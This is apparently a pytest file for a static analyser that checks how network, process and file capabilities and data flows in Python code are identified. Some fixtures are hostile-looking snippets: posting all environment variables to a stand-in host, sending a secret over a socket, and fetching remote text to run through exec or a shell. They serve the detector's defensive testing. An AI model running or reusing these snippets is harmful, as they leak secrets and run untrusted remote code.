"""Which argument of a call is told."""

import pytest

from pratique.analysis.facts import Capability
from tests.analysis.languages.python.reading import facts

N, P, R, W = Capability.NETWORK, Capability.PROCESS, Capability.FILE_READ, Capability.FILE_WRITE


@pytest.mark.parametrize(
    ("capability", "argument", "source"),
    [
        (N, "https://h.invalid/a", "import requests\nrequests.request('POST', 'https://h.invalid/a')"),
        (N, "https://h.invalid/b", "import requests\nrequests.post(data=d, url='https://h.invalid/b')"),
        (
            N,
            "https://h.invalid/{}",
            "import urllib.request as u\nu.urlopen(u.Request('https://h.invalid/' + x))",
        ),
        (N, "192.0.2.9:4444", "import socket\ns = socket.socket()\ns.connect(('192.0.2.9', 4444))"),
        (N, "h.invalid", "import http.client as c\nc.HTTPSConnection('h.invalid').request('POST', '/x', d)"),
        (P, "powershell -c {}", "import subprocess\nsubprocess.Popen(args=['powershell', '-c', x])"),
        (P, "bash -c {}", "import os\nos.system('bash -c ' + x)"),
        (P, "/bin/sh -c x", "import os\nos.execv('/bin/sh', ['sh', '-c', 'x'])"),
        (P, "/bin/sh -c {}", "import os\nos.execl('/bin/sh', 'sh', '-c', x)"),
        (P, "/bin/sh -c x", "import os\nos.execle('/bin/sh', 'sh', '-c', 'x', env)"),
        (P, "/bin/sh -c x", "import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'x'], os.environ)"),
        (P, "/bin/sh -c x", "import os\nos.spawnv(os.P_NOWAIT, '/bin/sh', ['sh', '-c', 'x'])"),
        (P, "/bin/sh x", "import os\nos.spawnlp(os.P_NOWAIT, '/bin/sh', 'sh', 'x')"),
        (P, "a.exe /s", "import win32api\nwin32api.ShellExecute(0, 'open', 'a.exe', '/s', None, 0)"),
        (
            P,
            "a.exe /s",
            "import ctypes\nctypes.windll.shell32.ShellExecuteW(0, 'runas', 'a.exe', '/s', None, 0)",
        ),
        (P, "x", "import ctypes\nctypes.CDLL(None).system(b'x')"),
        (W, "%APPDATA%/x.py", "import os\nopen(os.getenv('APPDATA') + '/x.py', 'w')"),
        (W, "a/b", "from pathlib import Path\nPath('a', 'b').write_text(data)"),
        (W, "to", "import shutil\nshutil.copy('from', 'to')"),
        (R, "from", "import shutil\nshutil.copy('from', 'to')"),
        (W, "x.exe", "import urllib.request as u\nu.urlretrieve('https://h.invalid/x', 'x.exe')"),
        (
            N,
            "https://h.invalid/x",
            "import urllib.request as u\nu.urlretrieve('https://h.invalid/x', 'x.exe')",
        ),
        (W, "x.txt", "open(file='x.txt', mode='w')"),
    ],
)
def test_a_use_is_told_by_its_address_command_or_path(
    capability: Capability, argument: str, source: str
) -> None:
    assert argument in {use.argument for use in facts(source).uses if use.capability is capability}


@pytest.mark.parametrize(
    ("target", "source"),
    [
        (
            "https://h.invalid/",
            "import os, requests\nrequests.post('https://h.invalid/', json=dict(os.environ))",
        ),
        (
            "192.0.2.9:80",
            "import os, socket\ns = socket.socket()\ns.connect(('192.0.2.9', 80))\ns.send(os.environ['A'].encode())",
        ),
        (
            "%TEMP%/{}",
            "import os, base64\nopen(os.getenv('TEMP') + '/' + n, 'wb').write(base64.b64decode(x))",
        ),
        ("sh {}", "import os, requests\nos.system('sh ' + requests.get(u).text)"),
        (None, "import requests\nexec(requests.get(u).text)"),
    ],
)
def test_a_flow_is_told_with_its_target(target: str | None, source: str) -> None:
    assert target in {flow.target for flow in facts(source).flows}


def test_facts_are_told_with_the_function_they_stand_in() -> None:
    source = "import os\ndef f():\n  os.system('a')\nclass C:\n  os.system('b')\n  def g(self):\n    (lambda: os.system('c'))()\nos.system('d')"

    assert {"a": 2, "b": 4, "c": 6, "d": 0} == {use.argument: use.scope for use in facts(source).uses}


def test_one_use_in_two_functions_is_told_of_both() -> None:
    source = "import requests\ndef f():\n  requests.get(a)\ndef g():\n  requests.get(b)"

    assert [2, 4] == [use.scope for use in facts(source).uses]
